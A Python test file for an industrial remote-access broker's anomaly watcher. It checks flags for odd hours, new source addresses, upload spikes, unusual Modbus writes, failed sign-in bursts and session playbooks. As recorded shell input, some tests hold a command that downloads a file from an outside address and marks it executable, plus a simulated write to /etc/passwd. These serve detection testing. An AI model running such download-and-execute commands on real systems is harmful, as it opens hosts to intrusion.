"""Watch (issue 12): baselines kept from the audit trail as events arrive, explainable flags (each naming its
signals and what they were compared with), the always-high ones, reviewers' decisions (benign feeds the
baseline), who sees what, and the site's automatic response — on the real domain with a fixed clock, the
gateway's reports made the way the gateway API makes them."""

from __future__ import annotations

import contextlib
import datetime as dt
import json
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import update

from broker.audit import trail
from broker.audit.trail import Action
from broker.errors import Forbidden, LoginFailed
from broker.identity import authentication, identities
from broker.inventory import gateways
from broker.inventory.gateway_events import NullPublisher
from broker.models import Site
from broker.watch import flags, watcher
from tests.fixtures.broker import Api, Plant

MONDAY_9 = dt.datetime(2027, 1, 4, 9, 0, tzinfo=dt.UTC)  # a Monday


def _gateway(session: Any, plant: Plant) -> Any:
    return gateways.authenticate_gateway(session, plant.gateway_token)


def _session(plant: Plant, grant_id: str, *, peer: str = "10.0.0.5:50000", kind: str = "shell",
             minutes: float = 30, bytes_in: int = 2000, ends: bool = True) -> str:
    with plant.session() as session:
        started = gateways.start_session(session, now=plant.clock.now(), gateway=_gateway(session, plant),
                                         grant_id=grant_id, kind=kind, peer=peer, command=None, port=None)
        session_id = started.id
    if ends:
        plant.clock.advance(dt.timedelta(minutes=minutes))
        with plant.session() as session:
            gateways.end_session(session, now=plant.clock.now(), gateway=_gateway(session, plant),
                                 session_id=session_id, reason="client_closed", bytes_in=bytes_in, bytes_out=5000,
                                 detail=None)
    return session_id


def _event(plant: Plant, session_id: str, kind: str, detail: dict[str, Any]) -> None:
    with plant.session() as session:
        gateways.record_session_event(session, now=plant.clock.now(), gateway=_gateway(session, plant),
                                      session_id=session_id, kind=kind, detail=detail)


def _watch(plant: Plant) -> int:
    with plant.session() as session:
        return watcher.watch_once(session, now=plant.clock.now(), events=NullPublisher(), vault=plant.vault)


def _open_flags(plant: Plant, viewer: str = "sec1") -> list[dict[str, Any]]:
    plant.ensure(viewer)
    with plant.session() as session:
        person = identities.get_identity(session, viewer)
        return [flags.shown(f) for f in flags.visible_flags(session, viewer=person)]


def _history(plant: Plant, days: int = 6, *, learning_days: int = 0) -> str:
    """vendor1 works on hmi-01 weekdays at 09:00 from 10.0.0.5; returns the grant."""
    with plant.session() as session:
        session.execute(update(Site).where(Site.name == "plant-a").values(learning_days=learning_days))
    plant.clock.set(MONDAY_9 - dt.timedelta(hours=1))
    plant.ensure("vendor1", "sup-a1")
    grant_id = plant.request_and_approve("vendor1", "sup-a1", asset="hmi-01", duration="8h")
    with plant.session() as session:
        session.execute(update(Site.__table__.metadata.tables["grants"]).values(
            ends_at=MONDAY_9 + dt.timedelta(days=60)))
    for day in range(days):
        plant.clock.set(MONDAY_9 + dt.timedelta(days=day + (2 if day >= 5 else 0)))
        _session(plant, grant_id)
    _watch(plant)
    return grant_id


def test_a_habit_raises_nothing_and_an_odd_session_is_flagged_with_its_signals(plant: Plant) -> None:
    grant_id = _history(plant)
    assert _open_flags(plant) == []
    plant.clock.set(dt.datetime(2027, 1, 17, 3, 12, tzinfo=dt.UTC))  # a Sunday night
    session_id = _session(plant, grant_id, peer="203.0.113.9:41000", ends=False)
    _watch(plant)
    [flag] = _open_flags(plant)
    assert (flag["identity"], flag["session"], flag["severity"], flag["learning"]) == (
        "vendor1", session_id, "medium", False)
    signals = {s["signal"]: s for s in flag["signals"]}
    assert set(signals) == {"unusual_time", "new_source"}
    assert signals["unusual_time"]["observed"] == "Sun 03:12 UTC"
    assert signals["unusual_time"]["usual"] == "outside its usual Mon-Fri 09:00-10:00"
    assert "203.0.113.9" in signals["new_source"]["observed"]
    assert "usually from 10.0.0.5" in signals["new_source"]["usual"]
    assert plant.audit("watch:flag:raised")[-1]["details"]["signals"][0]["signal"] in signals


def test_a_benign_verdict_feeds_the_baseline_and_the_same_behaviour_is_then_quiet(plant: Plant) -> None:
    grant_id = _history(plant)
    plant.clock.set(dt.datetime(2027, 1, 17, 3, 12, tzinfo=dt.UTC))
    _session(plant, grant_id, peer="203.0.113.9:41000")
    _watch(plant)
    [flag] = _open_flags(plant)
    with plant.session() as session:
        reviewer = identities.get_identity(session, "sup-a1")
        flags.decide(session, now=plant.clock.now(), reviewer=reviewer, flag_id=flag["id"], verdict="benign",
                     comment="weekend shutdown work, agreed with the plant")
    plant.clock.set(dt.datetime(2027, 1, 24, 3, 0, tzinfo=dt.UTC))
    _session(plant, grant_id, peer="203.0.113.9:41999")
    _watch(plant)
    assert _open_flags(plant) == []
    assert plant.audit("watch:flag:decided")[-1]["details"]["learned"] == 1


def test_an_upload_forty_times_the_usual_is_flagged_with_the_factor(plant: Plant) -> None:
    grant_id = _history(plant)
    plant.clock.set(MONDAY_9 + dt.timedelta(days=14))
    session_id = _session(plant, grant_id, ends=False)
    _event(plant, session_id, "file_transferred", {"path": "/tmp/fw.bin", "bytes_written": 80_000_000,
                                                   "bytes_read": 0})
    _watch(plant)
    # The transfer has no history yet (first transfer): only sessions' bytes_in are compared at the end.
    plant.clock.advance(dt.timedelta(minutes=30))
    with plant.session() as session:
        gateways.end_session(session, now=plant.clock.now(), gateway=_gateway(session, plant), session_id=session_id,
                             reason="client_closed", bytes_in=80_000_000, bytes_out=5000, detail=None)
    _watch(plant)
    [flag] = _open_flags(plant)
    spike = next(s for s in flag["signals"] if s["signal"] == "upload_spike")
    assert spike["observed"] == "76.3 MiB sent to the plant"
    assert spike["usual"] == "40000x its usual 2.0 KiB"


def _modbus_session(plant: Plant, grant_id: str, functions: str, registers: str) -> str:
    """A tunnel session whose Modbus connection asked ``functions`` on ``registers`` (as the gateway reports)."""
    with plant.session() as session:
        session_id = gateways.start_session(session, now=plant.clock.now(), gateway=_gateway(session, plant),
                                            grant_id=grant_id, kind="tcp", peer="10.0.0.5:50000", command=None,
                                            port=502).id
    _event(plant, session_id, "modbus_activity", {"requests": 10, "functions": functions, "registers": registers})
    plant.clock.advance(dt.timedelta(minutes=20))
    with plant.session() as session:
        gateways.end_session(session, now=plant.clock.now(), gateway=_gateway(session, plant), session_id=session_id,
                             reason="client_closed", bytes_in=2000, bytes_out=5000, detail=None)
    return session_id


def test_a_first_modbus_write_and_registers_far_from_the_usual_are_flagged(plant: Plant) -> None:
    _history(plant)
    plant.clock.set(MONDAY_9 + dt.timedelta(days=7))
    grant_id = plant.request_and_approve("vendor1", "sup-a1", asset="hmi-01", duration="8h", ssh=False, ports=[502])
    with plant.session() as session:
        session.execute(update(Site.__table__.metadata.tables["grants"]).values(
            ends_at=MONDAY_9 + dt.timedelta(days=60)))
    for day in range(5):  # a week of reading holding registers 0-9 of hmi-01
        plant.clock.set(MONDAY_9 + dt.timedelta(days=7 + day))
        _modbus_session(plant, grant_id, "3:10", "3:0-9")
    plant.clock.set(MONDAY_9 + dt.timedelta(days=14))
    _modbus_session(plant, grant_id, "3:4", "3:2-12")  # within the margin of the usual block: quiet
    _watch(plant)
    assert _open_flags(plant) == []

    write_session = _modbus_session(plant, grant_id, "3:2,6:1", "3:0-9;6:40")
    plant.clock.advance(dt.timedelta(hours=1))
    far_session = _modbus_session(plant, grant_id, "3:1", "3:4000-4009")
    _watch(plant)
    by_session = {flag["session"]: flag for flag in _open_flags(plant)}
    [write] = by_session[write_session]["signals"]
    assert (write["signal"], write["observed"], write["usual"]) == (
        "new_modbus_function", "first Modbus Write Single Register (6) on hmi-01 by this identity",
        "usually Read Holding Registers (3)")
    [far] = by_session[far_session]["signals"]
    assert (far["signal"], far["observed"], far["usual"]) == (
        "new_registers", "Read Holding Registers (3) on registers 4000-4009 of hmi-01", "usually 0-12")
    assert plant.audit("gateway:modbus:activity")[-1]["details"]["registers"] == "3:4000-4009"


def test_more_sessions_at_once_than_ever_before_are_flagged(plant: Plant) -> None:
    grant_id = _history(plant)
    plant.clock.set(MONDAY_9 + dt.timedelta(days=14))
    opened = []
    for _ in range(3):
        opened.append(_session(plant, grant_id, ends=False))
        plant.clock.advance(dt.timedelta(seconds=30))
    _watch(plant)
    [flag] = _open_flags(plant)
    assert flag["session"] == opened[2]  # two at once is ordinary (and learnt); the third is more than ever
    [signal] = flag["signals"]
    assert (signal["signal"], signal["observed"], signal["usual"]) == (
        "many_sessions", "3 sessions open at once", "never more than 2 before")


def _typed_session(plant: Plant, grant_id: str, recordings: Path, *commands: str, uploads: bool = False) -> str:
    """A recorded shell session in which these command lines were typed (and echoed); ``uploads``: ended by a
    separate gateway that has yet to upload the recording."""
    session_id = _session(plant, grant_id, ends=False)
    events = [[0.0, "o", "$ "]]
    for command in commands:
        events += [[0.1, "i", command + "\r"], [0.2, "o", command + "\r\n$ "]]
    name = f"{session_id}.cast"
    (recordings / name).write_text("\n".join(json.dumps(line) for line in
                                             [{"version": 2, "width": 80, "height": 24}, *events]) + "\n")
    plant.clock.advance(dt.timedelta(minutes=30))
    with plant.session() as session:
        gateways.end_session(session, now=plant.clock.now(), gateway=_gateway(session, plant), session_id=session_id,
                             reason="client_closed", bytes_in=2000, bytes_out=5000, detail=None,
                             recording={"name": name, "sha256": "0" * 64, "bytes": 1, "uploads": uploads})
    return session_id


def _watch_reading(plant: Plant, recordings: Path) -> None:
    """One pass as the broker makes it: typed programs read first (no write lock), then the watcher."""
    with plant.session() as session:
        typed = watcher.typed_ahead(session, recordings)
    with plant.session() as session:
        watcher.watch_once(session, now=plant.clock.now(), events=NullPublisher(), vault=plant.vault,
                           typed_programs=typed)


def test_a_program_typed_for_the_first_time_is_flagged_where_input_is_recorded(plant: Plant, tmp_path: Path) -> None:
    grant_id = _history(plant)
    for day in range(5):  # a week of looking at logs on hmi-01
        plant.clock.set(MONDAY_9 + dt.timedelta(days=7 + day))
        _typed_session(plant, grant_id, tmp_path, "tail -n 50 /var/log/hmi.log", "ls /opt/hmi")
    _watch_reading(plant, tmp_path)
    assert _open_flags(plant) == []
    plant.clock.set(MONDAY_9 + dt.timedelta(days=14))
    session_id = _typed_session(plant, grant_id, tmp_path, "ls /opt/hmi", "curl -o /tmp/x http://203.0.113.9/x",
                                "sudo chmod +x /tmp/x")
    _watch_reading(plant, tmp_path)
    [flag] = _open_flags(plant)
    assert flag["session"] == session_id
    [signal] = flag["signals"]
    assert (signal["signal"], signal["observed"], signal["usual"]) == (
        "new_command", "first run of curl, chmod (typed)", "usually ls, tail")


def test_what_was_typed_in_a_separate_gateways_recording_is_weighed_once_when_it_arrives(
        plant: Plant, tmp_path: Path) -> None:
    grant_id = _history(plant)
    for day in range(5):
        plant.clock.set(MONDAY_9 + dt.timedelta(days=7 + day))
        _typed_session(plant, grant_id, tmp_path, "tail -n 50 /var/log/hmi.log", "ls /opt/hmi")
    _watch_reading(plant, tmp_path)
    plant.clock.set(MONDAY_9 + dt.timedelta(days=14))
    on_gateway = tmp_path / "on-gateway"
    on_gateway.mkdir()
    # The gateway still holds the file at the session's end (here: it is not in the broker's directory yet).
    session_id = _typed_session(plant, grant_id, on_gateway, "curl -o /tmp/x http://203.0.113.9/x", uploads=True)
    _watch_reading(plant, tmp_path)
    assert _open_flags(plant) == []

    (on_gateway / f"{session_id}.cast").rename(tmp_path / f"{session_id}.cast")  # uploaded
    with plant.session() as session:
        trail.record(session, now=plant.clock.now(), action=Action.RECORDING_RECEIVED, actor="gateway:embedded",
                     subject=session_id, site="plant-a", details={"recording": {"name": f"{session_id}.cast"}})
    _watch_reading(plant, tmp_path)

    [flag] = _open_flags(plant)
    assert flag["session"] == session_id
    [signal] = flag["signals"]
    assert (signal["signal"], signal["observed"]) == ("new_command", "first run of curl (typed)")


def test_a_burst_of_failed_sign_ins_is_flagged_once(plant: Plant) -> None:
    plant.ensure("vendor1")
    plant.clock.set(MONDAY_9)
    policy = authentication.LoginPolicy.from_settings(plant.settings)
    for attempt in range(7):  # someone guessing vendor1's password, from a different address each time
        with contextlib.suppress(LoginFailed), plant.session() as session:
            authentication.login(session, vault=plant.vault, now=plant.clock.now(), policy=policy,
                                 username="vendor1", password=f"guess-{attempt}", code="000000",
                                 source=f"198.51.100.{attempt + 1}")
        plant.clock.advance(dt.timedelta(minutes=4))
    assert len(plant.audit("auth:login:failed")) == 7
    _watch(plant)
    [flag] = _open_flags(plant)
    [signal] = flag["signals"]
    assert (signal["signal"], signal["observed"], signal["usual"]) == (
        "failed_signins", "5 failed sign-ins within an hour", "never more than 4 in an hour before")
    assert flag["session"] is None


def test_always_high_flags_need_no_history(plant: Plant) -> None:
    plant.ensure("vendor1", "sup-a1")
    grant_id = plant.request_and_approve("vendor1", "sup-a1", asset="hmi-01")
    session_id = _session(plant, grant_id, ends=False)
    _event(plant, session_id, "file_refused", {"path": "/etc/passwd", "operation": "write"})
    for _ in range(4):  # a burst: one flag for it, not one per refused write
        _event(plant, session_id, "modbus_write_refused", {"function": 6, "address": 40001})
    _watch(plant)
    [flag] = _open_flags(plant)
    assert flag["severity"] == "high"
    names = [s["signal"] for s in flag["signals"]]
    assert names == ["download_only_violation", "modbus_write_burst"]


def test_one_identity_from_two_addresses_at_once_is_a_credential_in_two_places(plant: Plant) -> None:
    plant.ensure("vendor1", "sup-a1")
    grant_id = plant.request_and_approve("vendor1", "sup-a1", asset="hmi-01")
    _session(plant, grant_id, peer="10.0.0.5:50000", ends=False)
    plant.clock.advance(dt.timedelta(seconds=5))
    _session(plant, grant_id, peer="198.51.100.7:40000", ends=False)
    _watch(plant)
    [flag] = _open_flags(plant)
    assert flag["severity"] == "high"
    [signal] = flag["signals"]
    assert (signal["signal"], signal["observed"], signal["usual"]) == (
        "credential_two_places", "connected from 198.51.100.7", "while also connected from 10.0.0.5")


def test_a_supervisor_sees_and_decides_only_flags_of_their_sites_and_a_refusal_is_audited(plant: Plant) -> None:
    plant.ensure("vendor1", "sup-a1", "sup-b")
    grant_id = plant.request_and_approve("vendor1", "sup-a1", asset="hmi-01")
    _session(plant, grant_id, peer="10.0.0.5:1", ends=False)
    plant.clock.advance(dt.timedelta(seconds=5))
    _session(plant, grant_id, peer="10.0.0.6:1", ends=False)
    _watch(plant)
    assert len(_open_flags(plant, "sup-a1")) == 1
    assert _open_flags(plant, "sup-b") == []
    [flag] = _open_flags(plant)
    with plant.session() as session, pytest.raises(Forbidden):
        flags.decide(session, now=plant.clock.now(), reviewer=identities.get_identity(session, "sup-b"),
                     flag_id=flag["id"], verdict="confirmed", comment="not mine")
    assert plant.audit("watch:flag:refused")[-1]["actor"] == "sup-b"


def test_the_site_may_answer_a_high_flag_with_a_playbook_by_itself(plant: Plant) -> None:
    with plant.session() as session:
        session.execute(update(Site).where(Site.name == "plant-a").values(
            auto_response="compromised-vendor-account", auto_response_severity="high"))
    plant.ensure("vendor1", "sup-a1")
    grant_id = plant.request_and_approve("vendor1", "sup-a1", asset="hmi-01")
    _session(plant, grant_id, peer="10.0.0.5:1", ends=False)
    plant.clock.advance(dt.timedelta(seconds=5))
    _session(plant, grant_id, peer="10.0.0.6:1", ends=False)
    _watch(plant)
    assert plant.row("SELECT status FROM identities WHERE username = 'vendor1'") == ("suspended",)
    started = plant.audit("respond:playbook:started")[-1]
    assert started["actor"] == "watch"
    assert started["details"]["playbook"] == "compromised-vendor-account"


def test_the_watcher_reads_each_event_once(plant: Plant) -> None:
    _history(plant)
    assert _watch(plant) == 0
    baseline = plant.row("SELECT observations FROM baselines WHERE identity_id = "
                         "(SELECT id FROM identities WHERE username = 'vendor1') AND site_id IS NOT NULL")[0]
    assert baseline == 12  # six sessions: a start and an end each


def test_the_api_lists_flags_and_takes_a_decision(api: Api, plant: Plant) -> None:
    plant.ensure("vendor1", "sup-a1")
    grant_id = plant.request_and_approve("vendor1", "sup-a1", asset="hmi-01")
    _session(plant, grant_id, peer="10.0.0.5:1", ends=False)
    plant.clock.advance(dt.timedelta(seconds=5))
    _session(plant, grant_id, peer="10.0.0.6:1", ends=False)
    _watch(plant)
    [flag] = api.as_user("sup-a1").get("/flags").json()
    assert api.as_user("vendor1").get("/flags").json() == []
    done = api.as_user("sup-a1").post(f"/flags/{flag['id']}/confirmed", json={"comment": "called the vendor"})
    assert done.status_code == 200, done.text
    assert done.json()["status"] == "confirmed"
    assert api.as_user("sup-a1").get("/flags").json() == []
